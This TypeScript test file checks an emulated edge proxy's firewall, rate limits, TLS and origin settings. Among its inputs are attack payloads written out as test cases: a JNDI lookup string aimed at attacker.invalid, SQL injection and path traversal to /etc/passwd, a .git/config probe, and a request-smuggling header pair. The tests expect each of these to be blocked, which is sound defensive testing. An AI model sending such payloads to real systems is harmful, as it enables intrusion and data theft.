import { connect } from "node:net";
import { connect as tlsConnect } from "node:tls";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Json } from "../emulator/reply.ts";
import { france, japan, Stage } from "./stage.ts";

let stage: Stage;
beforeAll(async () => {
  stage = await Stage.start();
}, 60_000);
afterAll(() => stage.stop());
beforeEach(() => {
  // Limits of the test before are over.
  stage.pass(60);
});
afterEach(() => {
  expect([...stage.edge.front.unknown]).toEqual([]);
  expect(stage.emulator.faults).toEqual([]);
});

describe("rules", () => {
  it.each([
    ["media.example.org/", { from: japan }, 403, "custom rule rempart_countries"],
    ["media.example.org/.well-known/acme-challenge/x", { from: japan }, 302, "access: login"],
    ["git.example.org/.git/config", {}, 403, "custom rule rempart_probes"],
    ["git.example.org/a/..%2f..%2fetc", {}, 403, "custom rule rempart_probes"],
    ["git.example.org/", { method: "TRACE" }, 403, "custom rule rempart_probes"],
    ["media.example.org/?q=1%27%20OR%20%271%27%3D%271", {}, 403, "managed rules: SQL injection"],
    ["media.example.org/?file=../../etc/passwd", {}, 403, "managed rules: traversal"],
    ["media.example.org/", { headers: { "x-api-version": `\${jndi:ldap://attacker.invalid/a}` } }, 403, "managed rules: lookup"],
    ["media.example.org/%zz", {}, 403, "managed rules: malformed"],
    ["media.example.org/", { headers: { "user-agent": "GPTBot/1.2" } }, 403, "bots: collector for language models"],
    ["media.example.org/", { headers: { host: "other.example.org" } }, 403, "no such name"],
    ["media.example.org/a?b", { scheme: "http" }, 301, "https redirect"],
  ] as const)("%s %o: %i, %s", async (url, asking, status, by) => {
    const got = await stage.ask(url, asking);
    expect([got.status, stage.last?.by]).toEqual([status, by]);
    if (status === 301) expect(got.headers.location).toBe("https://media.example.org/a?b");
  });

  it("let one address ask so often, and again when its time is over", async () => {
    const login = (from = france) => stage.ask("media.example.org/users/authenticatebyname", { from, method: "POST" });
    for (let i = 0; i < 40; i++) expect((await login()).status).toBe(302);
    const late = await login();
    expect([late.status, late.headers["retry-after"], stage.last?.by]).toEqual([429, "10", "rate limit rempart_requests"]);
    expect((await login("127.0.0.3")).status).toBe(302);
    expect((await stage.ask("media.example.org/web/")).status).toBe(302);
    stage.pass(9);
    expect((await login()).status).toBe(429);
    stage.pass(1.5);
    expect((await login()).status).toBe(302);
  });

  it.each([
    ["what is not HTTP", "GET / HTTP/9\r\n\r\n", 400],
    ["two names of a host", "GET / HTTP/1.1\r\nHost: media.example.org\r\nHost: other.example.org\r\n\r\n", 400],
    ["two lengths of a body", "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n", 400],
    ["too long a header", `GET / HTTP/1.1\r\nHost: a\r\nX-Long: ${"a".repeat(20_000)}\r\n\r\n`, 431],
  ])("refuse %s", async (_what, text, status) => {
    const answer = await new Promise<string>((resolve, reject) => {
      const socket = connect(stage.edge.port("http"), "127.0.0.1", () => socket.write(text));
      socket.once("error", reject).once("data", (data) => resolve(String(data)));
    });
    expect([answer.split(" ")[1], stage.last?.by]).toEqual([String(status), "malformed request"]);
    expect(answer).toMatch(/^cf-ray: /im);
  });
});

describe("TLS", () => {
  it("is spoken for the names that the zone leads through the edge, in the versions that it allows", async () => {
    await expect(stage.ask("other.example.org/")).rejects.toThrow();
    await expect(stage.ask("example.org/")).rejects.toThrow();
    await expect(stage.ask("media.example.org/", { newest: "TLSv1.1" })).rejects.toThrow(/protocol version/);
    expect((await stage.ask("media.example.org/", { newest: "TLSv1.2" })).status).toBe(302);
    stage.emulator.zone.settings.get("min_tls_version").value = "1.3";
    await expect(stage.ask("media.example.org/", { newest: "TLSv1.2" })).rejects.toThrow(/protocol version/);
    stage.emulator.zone.settings.get("min_tls_version").value = "1.0";
    expect((await stage.ask("media.example.org/", { newest: "TLSv1.1" })).status).toBe(302);
    stage.emulator.zone.settings.get("min_tls_version").value = "1.2";
  });

  it("carries another protocol to the server and back", async () => {
    const { cookie: held } = await stage.logIn();
    const text = await new Promise<string>((resolve, reject) => {
      const tls = { ca: stage.edge.authorities.edge, servername: "media.example.org" };
      const socket = tlsConnect(stage.edge.port("https"), "127.0.0.1", tls, () =>
        socket.write(`GET /socket HTTP/1.1\r\nhost: media.example.org\r\nconnection: Upgrade\r\nupgrade: echo\r\ncookie: ${held}\r\n\r\n`),
      );
      let said = "";
      socket.setTimeout(10_000, () => reject(new Error(`only ${said}`)));
      socket.on("error", reject).on("data", (data) => {
        said += String(data);
        if (said.endsWith("\r\n\r\n")) socket.write("hello");
        if (said.endsWith("hello")) {
          socket.destroy();
          resolve(said);
        }
      });
    });
    expect(text.split("\r\n")[0]).toBe("HTTP/1.1 101 Switching Protocols");
  });
});

describe("the server behind it", () => {
  const page = async () => {
    const { cookie: held } = await stage.logIn();
    return () => stage.ask("media.example.org/", { headers: { cookie: held } });
  };

  it("is refused with the certificate of another name, and where nobody answers that is said", async () => {
    const asked = await page();
    await stage.certify(["git.example.org"]);
    expect([(await asked()).status, stage.last?.by]).toEqual([526, expect.stringContaining("origin fault")]);
    stage.emulator.zone.settings.get("ssl").value = "full";
    expect((await asked()).status).toBe(200);
    stage.emulator.zone.settings.get("ssl").value = "strict";
    await stage.certify(["*.example.org"]);
    expect((await asked()).status).toBe(200);
    await new Promise((resolve) => stage.origin.close(resolve));
    expect((await asked()).status).toBe(521);
    await new Promise<void>((resolve) => stage.origin.listen(stage.originPort, "127.0.0.1", resolve));
  });

  it("sees no client certificate while origin pulls are off, and the zone's own once that is active", async () => {
    const asked = await page();
    const shown = async () => {
      const { client, authorized } = JSON.parse((await asked()).body);
      return [client, authorized];
    };
    stage.emulator.zone.settings.get("tls_client_auth").value = "off";
    expect(await shown()).toEqual(["none", false]);
    // Of another authority than the one that this server believes.
    const { certificate, key } = await stage.pair(["example.org"]);
    stage.emulator.zone.originPullCertificates.set("own", { shown: { certificate, status: "active" }, looked: 2, key });
    stage.emulator.zone.originPulls = true;
    expect(await shown()).toEqual(["server", false]);
    stage.emulator.zone.originPulls = false;
    stage.emulator.zone.settings.get("tls_client_auth").value = "on";
    expect(await shown()).toEqual(["origin-pull.cloudflare.com", true]);
  });
});

it("without its names is reached by nobody", async () => {
  const records = new Map<string, Json>(stage.emulator.zone.records);
  await stage.play({ mode: "lan-only", waived: { tls: "shorter" } });
  await expect(stage.ask("media.example.org/")).rejects.toThrow();
  for (const [id, record] of records) stage.emulator.zone.records.set(id, record);
});
